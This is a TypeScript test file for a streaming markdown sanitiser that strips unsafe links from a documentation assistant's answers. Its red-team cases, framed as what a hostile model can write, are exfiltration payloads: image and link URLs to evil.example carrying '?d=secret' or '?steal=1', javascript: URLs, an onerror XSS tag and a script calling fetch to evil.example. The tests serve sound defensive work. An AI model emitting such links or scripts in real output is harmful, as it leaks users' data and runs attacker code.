import type { Chunk } from '@docent/protocol';
import { describe, expect, it } from 'vitest';
import { sourceLinkPolicy } from './link-policy.js';
import { SafeMarkdown } from './safe-markdown.js';

const source = (url: string): Chunk => ({
  id: url,
  text: 'text',
  sourcePath: 'deployment.md',
  headings: ['Deployment', 'Docker'],
  url,
  title: 'Deployment',
  locale: 'en',
  version: 'current',
  hash: 'h',
});
const SOURCES = [source('/docs/deployment#docker'), source('/docs/install#with-npm')];

function run(deltas: string[], origins: string[] | '*' = ['https://docs.example.com']): string {
  const filter = new SafeMarkdown(SOURCES.length, sourceLinkPolicy(SOURCES, origins));
  return deltas.map((delta) => filter.push(delta)).join('') + filter.flush();
}
const once = (text: string) => run([text]);

describe('safe markdown (red team: what a hostile model can write)', () => {
  it.each([
    // high: a foreign host whose path matches a source page, as a link and as an image
    ['[x](https://evil.example/docs/deployment?steal=1)', 'x'],
    ['![x](https://evil.example/docs/deployment?d=secret)', 'x'],
    ['![logo](/docs/deployment)', '![logo](/docs/deployment)'],
    // forms that resolve to another host
    ['[a](//evil.example/docs/deployment)', 'a'],
    ['[a](/\\evil.example/docs/deployment)', 'a'],
    ['[a](javascript:alert(1))', 'a'],
    ['[a](data:text/html,hi)', 'a'],
    ['[a](https://user:pw@docs.example.com/docs/deployment)', 'a'],
    // medium: titles, autolinks, reference links and definitions, raw HTML
    ['[t](http://evil.example/a "t")', 't'],
    ['[Docker](/docs/deployment#docker "Docker")', '[Docker](/docs/deployment#docker)'],
    ['see <http://evil.example/x?q=1>', 'see http\\://evil.example/x?q=1'],
    ['mail <someone@evil.example>', 'mail someone\\@evil.example'],
    ['[text][ref] and [other][]', 'text and other'],
    ['[ref]: http://evil.example/x "t"\nnext', 'ref\nnext'],
    ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)>'],
    ['<!-- hidden --> and </div>', '\\<!-- hidden --> and \\</div>'],
    ['<script>fetch("//evil.example")</script>', '\\<script>fetch("//evil.example")\\</script>'],
    // what stays: citations of real sources, site links, comparisons
    ['Use compose [1][9] [2, 3] [0].', 'Use compose [1] [2] .'],
    [
      '[Docker](/docs/deployment#docker) and [site](https://docs.example.com/docs/install#with-npm)',
      '[Docker](/docs/deployment#docker) and [site](https://docs.example.com/docs/install#with-npm)',
    ],
    ['if a < b and b > c', 'if a < b and b > c'],
    ['[not a link] (x)', '\\[not a link] (x)'],
    // too long to check is never a link downstream
    [`[${'a'.repeat(400)}](https://evil.example)`, `\\[${'a'.repeat(400)}](https\\://evil.example)`],
    [`[a](https://evil.example/${'p'.repeat(700)})`, `\\[a](https\\://evil.example/${'p'.repeat(700)})`],
    // round 3: an angle-bracket destination smuggling a second link or image, bare URLs GFM would autolink
    ['[a](</docs/deployment#)[x](javascript:alert(1)>)', 'a'],
    ['![a](</docs/deployment#)![x](https://evil.example/x.png>)', 'a'],
    ['[a](</docs/deployment#docker>)', '[a](/docs/deployment#docker)'],
    [
      'see https://evil.example/login or www.evil.example',
      'see https\\://evil.example/login or www\\.evil.example',
    ],
    ['mail admin@evil.example, WWW.EVIL.EXAMPLE', 'mail admin\\@evil.example, WWW\\.EVIL.EXAMPLE'],
    ['[see https://evil.example](https://evil.example)', 'see https\\://evil.example'],
    ['a ratio 3:4, a path C://x stays readable', 'a ratio 3:4, a path C\\://x stays readable'],
    ['install @docent/server', 'install @docent/server'],
  ])('%j becomes %j', (input, expected) => {
    expect(once(input)).toBe(expected);
  });

  it('leaves code byte for byte: fenced blocks and inline spans', () => {
    const code = [
      'Basic auth:',
      '',
      '```ts',
      'const user = users[0], other = users[7]; // [x](https://evil.example) <b>',
      '```',
      '',
      'Then `users[0]` and ``a ` [1](http://x) b`` stay, and ~~~ is text here.',
      '~~~',
      '<div>[9]</div>',
      '~~~',
    ].join('\n');
    expect(once(code)).toBe(code);
  });

  it('gives the same result however the stream splits it (every split point, and a character at a time)', () => {
    const answer =
      'See [Docker](/docs/deployment#docker "t") [1][4], not ![x](https://evil.example/docs/deployment?s=1) ' +
      'or <https://evil.example>.\n[ref]: https://evil.example\n```js\nusers[0] <b>\n```\n<img src=x> `a[0]` [2]' +
      ' and www.evil.example, https://evil.example or a@evil.example';
    const whole = once(answer);
    expect(whole).toBe(
      'See [Docker](/docs/deployment#docker) [1], not x or https\\://evil.example.\nref\n```js\nusers[0] <b>\n```\n\\<img src=x> `a[0]` [2]' +
        ' and www\\.evil.example, https\\://evil.example or a\\@evil.example',
    );
    for (let split = 1; split < answer.length; split++) {
      expect(run([answer.slice(0, split), answer.slice(split)])).toBe(whole);
    }
    expect(run([...answer])).toBe(whole);
  });

  it('with allowed origins "*", absolute links are kept only on the sources\' own origins', () => {
    expect(run(['[a](https://docs.example.com/docs/deployment)'], '*')).toBe('a');
  });

  it('streams tens of thousands of `[` in one delta through, in order (no quadratic rescans)', () => {
    const brackets = '['.repeat(80_000);
    expect(run([brackets, ' done'])).toBe(`${'\\['.repeat(80_000)} done`);
    const backticks = '`` '.repeat(20_000);
    expect(run([backticks])).toBe(backticks);
  });

  it('holds back no more than a construct can span, whatever the delta sizes (round 3)', () => {
    // 20,000 `[` in 4-character deltas: each `[` is let go once no link can start with it, so what waits is
    // bounded by a label's 300 characters, not the 2,000-character hold limit (work per delta is bounded too).
    const filter = new SafeMarkdown(SOURCES.length, sourceLinkPolicy(SOURCES, ['https://docs.example.com']));
    let sent = 0;
    let mostHeld = 0;
    for (let n = 0; n < 5_000; n++) {
      sent += filter.push('[[[[').length / 2;
      mostHeld = Math.max(mostHeld, (n + 1) * 4 - sent);
    }
    expect(mostHeld).toBeLessThanOrEqual(302);
    expect(sent + filter.flush().length / 2).toBe(20_000);
    // One `a[i]` in code-like text does not hold back what follows it.
    const code = new SafeMarkdown(SOURCES.length, sourceLinkPolicy(SOURCES, '*'));
    expect(code.push('Use a[i] to read it, then ')).toBe('Use a\\[i] to read it, then ');
  });
});
